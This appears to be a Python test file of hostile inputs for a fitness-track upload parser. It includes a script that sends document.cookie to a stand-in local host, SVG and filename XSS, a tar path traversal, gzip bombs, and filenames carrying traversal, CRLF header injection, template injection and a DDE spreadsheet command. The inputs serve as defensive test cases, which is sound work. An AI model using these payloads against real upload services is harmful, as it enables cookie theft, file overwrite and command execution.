"""Files that are something else, or two things at once, and names that are attacks."""

from __future__ import annotations

import gzip
import io
import tarfile

from tests.formats.xml_samples import north, run_gpx
from tests.hostile.case import ADDED, Case, case, gzipped, heavy
from tests.samples import fit

UNKNOWN, TOO_LARGE, DAMAGED = "unknown_format", "too_large", "gzip_damaged"
MIB = 2**20
PNG = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\xff\xff\xff\xff\xff\xff\xff\xff\x08\x06\0\0\0"
HTML = b"<!doctype html><script>fetch('//127.0.0.1:9/'+document.cookie)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><gpx/></svg>'


def tar() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as archive:
        info = tarfile.TarInfo("../../a.gpx")
        info.size = 5
        archive.addfile(info, io.BytesIO(b"<gpx>"))
    return out.getvalue()


def both() -> bytes:
    """A track that a browser would run as a page."""
    return run_gpx(north(range(40))).replace(b"<trk>", HTML[15:] + b"<trk>")


CASES: list[Case] = [
    case("page.gpx", HTML, UNKNOWN),
    case("drawing.gpx", SVG, UNKNOWN),
    case("paper.fit", b"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction 2 0 R>>", UNKNOWN),
    case("picture.gpx", PNG, UNKNOWN),
    case("program.fit", b"MZ\x90\0" + bytes(500) + b"PE\0\0", UNKNOWN),
    case("elf.fit", b"\x7fELF" + bytes(60), UNKNOWN),
    case("page and track.gpx", both, ADDED),
    case("track and archive.gpx",
         run_gpx(north(range(41))) + b"PK\x05\x06" + bytes(18), ADDED),
    case("picture and track.png", PNG + run_gpx(north(range(42))), UNKNOWN),
    case("track with a page behind.gpx", run_gpx(north(range(43))) + HTML, ADDED),
    case("gz of gz.gpx.gz", gzipped(gzipped(run_gpx(north(range(44))))), UNKNOWN),
    case("gz bomb.gpx.gz", lambda: gzip.compress(bytes(150 * MIB), 9), TOO_LARGE),
    case("gz with junk behind.gpx.gz", gzipped(run_gpx(north(range(45)))) + b"junk" * 99, DAMAGED),
    case("gz with zeros behind.gpx.gz", gzipped(run_gpx(north(range(46)))) + bytes(512), ADDED),
    case("gz of many parts.gpx.gz",
         b"".join(gzipped(run_gpx(north(range(47)))[at : at + 99]) for at in range(0, 9_000, 99)),
         ADDED),
    case("gz cut.gpx.gz", gzipped(run_gpx(north(range(48))))[:-20], DAMAGED),
    case("gz checksum.gpx.gz", gzipped(run_gpx(north(range(49))))[:-8] + bytes(8), DAMAGED),
    case("gz head alone.gpx.gz", b"\x1f\x8b", DAMAGED),
    case("gz of an archive.zip.gz", gzipped(b"PK\x03\x04" + bytes(40)), UNKNOWN),
    case("tar.tar.gz", tar, UNKNOWN),
    case("empty.fit", b"", "empty"),
    case("one byte.gpx", b"<", UNKNOWN),
    case("mark alone.gpx", b"\xef\xbb\xbf", UNKNOWN),
    case("UTF-16 mark alone.gpx", b"\xff\xfe", UNKNOWN),
    case("text.tcx", b"I ran ten kilometres today.\n" * 50, UNKNOWN),
    case("zeros.fit", bytes(MIB), UNKNOWN),
    case("JSON.gpx", b'{"type": "FeatureCollection", "features": []}', UNKNOWN),
    heavy("hundred gz bombs in one.gz",
          lambda: gzip.compress(bytes(MIB), 9) * 5_000, TOO_LARGE),
]  # fmt: skip

NAMES = [
    "../../../../etc/cron.d/evil.fit",
    "/etc/passwd.fit",
    "C:\\Windows\\System32\\evil.fit",
    "..\\..\\evil.fit",
    "nul\0byte.fit",
    "new\r\nSet-Cookie: a=b\r\nline.fit",
    "right\u202etif.exe",
    "a" * 300 + ".fit",
    'quote"; filename="b.html',
    "<img src=x onerror=alert(1)>.fit",
    "{{ settings.SECRET_KEY }}.fit",
    "=cmd|' /C calc'!A0.fit",
    "\ud83c\udfc3\u200d\u2640\ufe0f.fit".encode("utf-16", "surrogatepass").decode("utf-16"),
    ".",
    "..",
    "   ",
    "CON.fit",
]


def named(at: int) -> bytes:
    return fit(day=at, minutes=2)
